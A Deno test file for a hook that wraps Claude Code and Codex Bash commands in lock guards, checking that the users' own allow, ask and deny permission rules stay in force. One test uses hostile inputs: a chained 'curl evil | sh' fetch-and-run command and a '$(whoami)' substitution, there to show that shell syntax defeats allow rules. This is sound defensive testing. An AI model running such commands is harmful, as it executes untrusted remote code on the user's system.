/**
 * `lokt hook claude-code|codex` answers, from recorded hook inputs of several harness versions:
 * matching, non-matching, already guarded, other tools, malformed input, invalid rules, and the
 * user's own permission rules kept in force. The outside world is a table of files.
 */

import { assertEquals, assertMatch, assertNotMatch } from "../helpers/assert.ts";
import { answerHook, type HookAccess, type HookOutput } from "../../src/hooks/answer.ts";
import type { Harness } from "../../src/hooks/input.ts";

const FIXTURES = new URL("./fixtures/", import.meta.url);
const fixture = (name: string) => Deno.readTextFileSync(new URL(name, FIXTURES));

const RULES = `{
  // one push at a time
  "guard": [
    { "match": "lokt (unlock|unfreeze)\\\\b.*--force", "ask": "it breaks someone else's lock" },
    { "match": "(^|[;&|]\\\\s*)git push\\\\b", "name": "push", "ttl": "2m", "timeout": "100s" },
  ],
  "backend": "files",
}`;

interface World {
  files?: Record<string, string>;
  env?: Record<string, string>;
  argvs?: string[][];
  lokt?: boolean;
}

function access(world: World = {}): HookAccess {
  const files: Record<string, string> = { "/repo/lokt.jsonc": RULES, ...world.files };
  const env: Record<string, string> = {
    HOME: "/home/dev",
    PATH: "/usr/bin",
    SHELL: "/bin/bash",
    ...world.env,
  };
  return {
    env: (name) => env[name],
    cwd: () => "/repo",
    readText: (path) => {
      const text = files[path];
      if (text === "<unreadable>") throw new Error("Permission denied (os error 13)");
      return text;
    },
    listDir: (dir) =>
      Object.keys(files).filter((p) => p.startsWith(`${dir}/`)).map((p) => p.slice(dir.length + 1)),
    isExecutable: (path) => (world.lokt ?? true) && path === "/usr/bin/lokt",
    ancestorArgvs: () => world.argvs ?? [],
    os: "linux",
    self: () => ["/usr/bin/deno", "run", "-A", "/src/main.ts"],
  };
}

async function hook(harness: Harness, input: unknown, world?: World): Promise<HookOutput> {
  return await answerHook(
    harness,
    typeof input === "string" ? input : JSON.stringify(input),
    access(world),
  );
}

function bash(command: string, extra: Record<string, unknown> = {}) {
  return {
    session_id: "s-1",
    cwd: "/repo",
    hook_event_name: "PreToolUse",
    tool_name: "Bash",
    tool_input: { command, ...extra },
  };
}

type Specific = {
  hookEventName: string;
  permissionDecision?: string;
  permissionDecisionReason?: string;
  updatedInput?: Record<string, unknown>;
};

function specific(out: HookOutput): Specific {
  assertEquals(out.stderr, "", "no complaint");
  const parsed = JSON.parse(out.stdout);
  assertEquals(Object.keys(parsed), ["hookSpecificOutput"]);
  return parsed.hookSpecificOutput;
}

function leftAsTyped(out: HookOutput): string {
  assertEquals(out.stderr.split("\n").length, 2, `one line on stderr: ${out.stderr}`);
  const parsed = JSON.parse(out.stdout);
  assertEquals(Object.keys(parsed), ["systemMessage"]);
  assertEquals(parsed.systemMessage + "\n", out.stderr);
  assertMatch(out.stderr, /the command runs as typed, unguarded\n$/);
  return out.stderr;
}

const GUARDED = (agent: string, timeout = "100s") =>
  `LOKT_AGENT_ID='${agent}' lokt guard push --wait --quiet --ttl 2m --timeout ${timeout} -- /bin/bash -c 'git push origin main'`;

Deno.test("Claude Code 1.0 input (no cwd, no permission mode): rewritten, asked, description kept", async () => {
  const out = specific(await hook("claude-code", fixture("claude-code-1.0-bash.json")));
  assertEquals(out.hookEventName, "PreToolUse");
  assertEquals(out.permissionDecision, "ask");
  assertEquals(out.updatedInput, {
    command: GUARDED("0f5c1c8e-2b7a-4d43-9b1e-4a1f6f0c9d10"),
    description: "Push the branch",
  });
  assertMatch(
    out.permissionDecisionReason!,
    /lokt lock "push".*The command: git push origin main$/,
  );
});

Deno.test("Claude Code 2.1 input: every tool_input field is kept, the rule's wait fits the 5 min timeout", async () => {
  const out = specific(await hook("claude-code", fixture("claude-code-2.1-bash.json")));
  assertEquals(out.updatedInput, {
    command: GUARDED("7d2e6a90-5c31-4f0e-8a57-2b9c0e4d1f33"),
    description: "Push the branch",
    timeout: 300000,
    run_in_background: false,
  });
});

Deno.test("Claude Code's own timeout shortens the wait: the agent reads lokt's message, not a kill", async () => {
  const short = specific(
    await hook("claude-code", bash("git push origin main", { timeout: 60_000 })),
  );
  assertEquals(short.updatedInput?.command, GUARDED("s-1", "48s"));
  const env = specific(
    await hook("claude-code", bash("git push origin main"), {
      env: { BASH_DEFAULT_TIMEOUT_MS: "30000" },
    }),
  );
  assertEquals(env.updatedInput?.command, GUARDED("s-1", "24s"));
});

Deno.test("Codex inputs of two versions: rewritten with the allow marker Codex requires, and nothing else", async () => {
  for (const name of ["codex-0.130-bash.json", "codex-0.120-bash.json"]) {
    const input = JSON.parse(fixture(name));
    const out = specific(await hook("codex", input));
    assertEquals(out, {
      hookEventName: "PreToolUse",
      permissionDecision: "allow",
      updatedInput: { command: GUARDED(input.session_id) },
    }, name);
  }
});

Deno.test("other tools and other events are left alone without a word", async () => {
  const quiet = { stdout: "", stderr: "" };
  assertEquals(await hook("claude-code", fixture("claude-code-2.1-edit.json")), quiet);
  assertEquals(await hook("codex", fixture("codex-0.130-mcp.json")), quiet);
  assertEquals(
    await hook("claude-code", { ...bash("git push"), hook_event_name: "PostToolUse" }),
    quiet,
  );
  assertEquals(await hook("codex", { ...bash("git push"), tool_name: "apply_patch" }), quiet);
});

Deno.test("a command no rule matches gets no answer at all", async () => {
  for (const harness of ["claude-code", "codex"] as const) {
    assertEquals(await hook(harness, bash("git status")), { stdout: "", stderr: "" });
    assertEquals(await hook(harness, bash("npm test -- --grep push")), { stdout: "", stderr: "" });
  }
});

Deno.test("a command that already runs lokt is not wrapped again", async () => {
  for (const harness of ["claude-code", "codex"] as const) {
    for (
      const command of [
        "lokt guard push --wait -- git push origin main",
        GUARDED("s-1"),
        "/usr/bin/deno run -A /src/main.ts guard push -- git push",
      ]
    ) {
      assertEquals(await hook(harness, bash(command)), { stdout: "", stderr: "" }, command);
    }
  }
});

Deno.test("a command that runs lokt is not wrapped again, even when a rule matches text inside it", async () => {
  const files = { "/repo/lokt.jsonc": '{ "guard": [{ "match": "git push", "name": "push" }] }' };
  for (const harness of ["claude-code", "codex"] as const) {
    for (
      const command of [
        "lokt guard push --wait -- git push origin main",
        "cd app && lokt guard push -- sh -c 'git push'",
        "LOKT_AGENT_ID='s-1' /usr/local/bin/lokt guard push --wait -- bash -c 'git push'",
      ]
    ) {
      assertEquals(
        await hook(harness, bash(command), { files }),
        { stdout: "", stderr: "" },
        command,
      );
    }
    // The same rule does match the bare command.
    assertMatch((await hook(harness, bash("git push"), { files })).stdout, /guard push --wait/);
  }
});

Deno.test("without lokt on PATH the rewrite starts this very lokt", async () => {
  const out = specific(await hook("claude-code", bash("git push"), { lokt: false }));
  assertMatch(
    out.updatedInput!.command as string,
    /^LOKT_AGENT_ID='s-1' \/usr\/bin\/deno run -A \/src\/main\.ts guard push /,
  );
});

Deno.test("no session id: no LOKT_AGENT_ID (lokt derives the identity itself)", async () => {
  const input = bash("git push");
  delete (input as Partial<typeof input>).session_id;
  const out = specific(await hook("claude-code", input));
  assertMatch(out.updatedInput!.command as string, /^lokt guard push /);
});

Deno.test("malformed input of every kind leaves the command as typed, with one line saying why", async () => {
  const cases: [unknown, RegExp][] = [
    ["{not json", /not JSON/],
    ["", /not JSON/],
    ["[1,2]", /not a JSON object/],
    [{ hook_event_name: "PreToolUse", tool_input: { command: "git push" } }, /no tool_name/],
    [{ tool_name: "Bash" }, /no tool_input object/],
    [{ tool_name: "Bash", tool_input: { command: ["git", "push"] } }, /no command string/],
  ];
  for (const harness of ["claude-code", "codex"] as const) {
    for (const [input, why] of cases) {
      const line = leftAsTyped(await hook(harness, input));
      assertMatch(line, why);
      assertNotMatch(line, /internal error/, "malformed input is expected, not a bug");
    }
  }
});

Deno.test("an unreadable or broken lokt.jsonc, or an invalid rule, leaves every command as typed and says where", async () => {
  assertMatch(
    leftAsTyped(
      await hook("claude-code", bash("ls"), { files: { "/repo/lokt.jsonc": "<unreadable>" } }),
    ),
    /^lokt hook: \/repo\/lokt\.jsonc: cannot be read: Permission denied/,
  );
  assertMatch(
    leftAsTyped(
      await hook("codex", bash("git push"), { files: { "/repo/lokt.jsonc": '{\n  "guard": [\n' } }),
    ),
    /^lokt hook: \/repo\/lokt\.jsonc:3:1: expected a value, found the end of the file/,
  );
  const invalid =
    '{ "guard": [\n  { "match": "git push", "name": "push", "ttl": "soon" },\n  { "match": "(" }\n] }';
  assertMatch(
    leftAsTyped(
      await hook("claude-code", bash("git push"), { files: { "/repo/lokt.jsonc": invalid } }),
    ),
    /^lokt hook: \/repo\/lokt\.jsonc:2:49: guard\[0\]\.ttl: "soon" is not a duration.* \(and 2 more: lokt doctor\); no rule applies until it is fixed/,
  );
});

Deno.test("no lokt.jsonc: nothing is guarded and nothing is said", async () => {
  const out = await answerHook("claude-code", JSON.stringify(bash("git push")), {
    ...access(),
    readText: () => undefined,
  });
  assertEquals(out, { stdout: "", stderr: "" });
});

Deno.test("a bug inside the hook leaves the command as typed", async () => {
  const broken: HookAccess = {
    ...access(),
    env: () => {
      throw new Error("boom");
    },
  };
  assertMatch(
    leftAsTyped(await answerHook("codex", JSON.stringify(bash("git push")), broken)),
    /internal error \(boom\)/,
  );
});

Deno.test("an ask rule asks the user in Claude Code, and denies with the reason in Codex", async () => {
  const command = "lokt unlock push --force";
  assertEquals(specific(await hook("claude-code", bash(command))), {
    hookEventName: "PreToolUse",
    permissionDecision: "ask",
    permissionDecisionReason: "lokt.jsonc guard[0]: it breaks someone else's lock",
  });
  const codex = specific(await hook("codex", bash(command)));
  assertEquals(codex.permissionDecision, "deny");
  assertMatch(
    codex.permissionDecisionReason!,
    /requires the user's confirmation \(it breaks someone else's lock\).*`lokt unlock push --force`/,
  );
});

// ---- The user's permission rules stay in force ----

const settings = (permissions: Record<string, string[]>, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ permissions, ...extra });

async function decision(
  world: World,
  input = bash("git push origin main"),
  harness: Harness = "claude-code",
) {
  const out = await hook(harness, input, world);
  if (out.stdout === "") return `left as typed${out.stderr ? `: ${out.stderr.trim()}` : ""}`;
  const parsed = JSON.parse(out.stdout).hookSpecificOutput;
  return parsed.updatedInput ? `rewrite ${parsed.permissionDecision}` : parsed.permissionDecision;
}

Deno.test("Claude Code: no rule of the user's covers the command: the rewrite asks, as the command would", async () => {
  assertEquals(await decision({}), "rewrite ask");
  for (const mode of ["default", "acceptEdits", "plan", "auto", "dontAsk"]) {
    assertEquals(
      await decision({}, { ...bash("git push"), permission_mode: mode } as never),
      "rewrite ask",
      mode,
    );
  }
});

Deno.test("Claude Code: bypassPermissions runs the command without asking, so the rewrite is allowed", async () => {
  assertEquals(
    await decision({}, { ...bash("git push"), permission_mode: "bypassPermissions" } as never),
    "rewrite allow",
  );
  // ... unless lokt could not read a settings file: it might deny the command.
  assertEquals(
    await decision(
      { files: { "/home/dev/.claude/settings.json": "{ broken" } },
      { ...bash("git push"), permission_mode: "bypassPermissions" } as never,
    ),
    "rewrite ask",
  );
});

Deno.test("Claude Code: an allow rule that certainly covers the command lets the rewrite skip the prompt", async () => {
  const project = (allow: string[]) => ({
    files: { "/repo/.claude/settings.json": settings({ allow }) },
  });
  assertEquals(await decision(project(["Bash(git push:*)"])), "rewrite allow");
  assertEquals(await decision(project(["Bash(git push *)"])), "rewrite allow");
  assertEquals(await decision(project(["Bash"])), "rewrite allow");
  assertEquals(await decision(project(["Bash(git push origin main)"])), "rewrite allow");
  // Not certain: another command, a pattern that needs more words, shell syntax in the command.
  assertEquals(await decision(project(["Bash(git pull:*)"])), "rewrite ask");
  assertEquals(await decision(project(["Bash(git push --tags *)"])), "rewrite ask");
  assertEquals(await decision(project(["Edit"])), "rewrite ask");
  assertEquals(
    await decision(project(["Bash(git push:*)"]), bash("git push; curl evil | sh")),
    "rewrite ask",
  );
  assertEquals(
    await decision(project(["Bash(git push:*)"]), bash('git push "$(whoami)"')),
    "rewrite ask",
  );
});

Deno.test("Claude Code: a deny rule that might apply leaves the command as typed, for Claude Code to refuse", async () => {
  for (
    const deny of [
      "Bash(git push:*)",
      "Bash(git push *)",
      "Bash(*push*)",
      "Bash",
      "*",
      "Bash(git * main)",
    ]
  ) {
    assertMatch(
      await decision({ files: { "/home/dev/.claude/settings.json": settings({ deny: [deny] }) } }),
      /^left as typed: lokt: not guarding this command under "push": your deny rule .* may apply to it/,
      deny,
    );
  }
  // Quotes and backslashes do not hide a command from a deny rule.
  assertMatch(
    await decision({
      files: { "/repo/.claude/settings.local.json": settings({ deny: ["Bash(git push:*)"] }) },
    }, bash("'git' pu\\sh")),
    /^left as typed/,
  );
  // A deny rule for another command changes nothing.
  assertEquals(
    await decision({
      files: { "/repo/.claude/settings.json": settings({ deny: ["Bash(rm:*)", "Read(.env)"] }) },
    }),
    "rewrite ask",
  );
});

Deno.test("Claude Code: an ask rule that might apply makes the rewrite ask, even with an allow rule", async () => {
  const files = {
    "/repo/.claude/settings.json": settings({
      allow: ["Bash(git push:*)"],
      ask: ["Bash(git push origin:*)"],
    }),
  };
  assertEquals(await decision({ files }), "rewrite ask");
});

Deno.test("Claude Code: rules on the running claude's command line and in managed settings count", async () => {
  const claude = ["node", "/usr/lib/node_modules/@anthropic-ai/claude-code/cli.js"];
  assertMatch(
    await decision({
      argvs: [["sh", "-c", "lokt hook claude-code"], [
        ...claude,
        "--disallowedTools",
        "Bash(git push:*),Edit",
      ]],
    }),
    /^left as typed/,
  );
  assertMatch(
    await decision({ argvs: [["/usr/local/bin/claude", "--disallowed-tools=Bash(git:*)"]] }),
    /^left as typed/,
  );
  assertEquals(
    await decision({ argvs: [["/usr/local/bin/claude", "--allowedTools", "Bash(git push:*)"]] }),
    "rewrite allow",
  );
  assertMatch(
    await decision({
      files: { "/etc/claude-code/managed-settings.json": settings({ deny: ["Bash(git push:*)"] }) },
    }),
    /^left as typed/,
  );
  // Managed settings that allow only their own rules: the project's allow rule does not count.
  assertEquals(
    await decision({
      files: {
        "/etc/claude-code/managed-settings.json": JSON.stringify({
          allowManagedPermissionRulesOnly: true,
        }),
        "/repo/.claude/settings.json": settings({ allow: ["Bash(git push:*)"] }),
      },
    }),
    "rewrite ask",
  );
  assertMatch(
    await decision({
      argvs: [["claude", "--settings", '{"permissions":{"deny":["Bash(git push:*)"]}}']],
    }),
    /^left as typed: .*your deny rule Bash\(git push:\*\) \(claude --settings\)/,
  );
});

Deno.test("Codex: a forbidden or prompt rule that might apply leaves the command as typed; allow rules change nothing", async () => {
  const rules = (text: string) => ({ files: { "/home/dev/.codex/rules/default.rules": text } });
  const codex = async (world: World) =>
    await decision(world, bash("git push origin main"), "codex");
  assertEquals(await codex({}), "rewrite allow");
  assertMatch(
    await codex(rules('prefix_rule(pattern = ["git", "push"], decision = "forbidden")')),
    /^left as typed: .*your deny rule/,
  );
  assertMatch(
    await codex(
      rules('prefix_rule(\n  pattern = ["git", ["push", "fetch"]],\n  decision = "prompt",\n)'),
    ),
    /^left as typed: .*your ask rule/,
  );
  assertEquals(await codex(rules('prefix_rule(pattern = ["git", "push"])')), "rewrite allow");
  assertEquals(
    await codex(rules('prefix_rule(pattern = ["rm"], decision = "forbidden")')),
    "rewrite allow",
  );
  // A rule lokt cannot read counts as matching; so does an unreadable rules file.
  assertMatch(
    await codex(rules('prefix_rule(pattern = some_list, decision = "forbidden")')),
    /^left as typed/,
  );
  assertMatch(
    await codex({ files: { "/repo/.codex/rules/team.rules": "<unreadable>" } }),
    /^left as typed: lokt: .*could not read \/repo\/\.codex\/rules\/team\.rules/,
  );
});
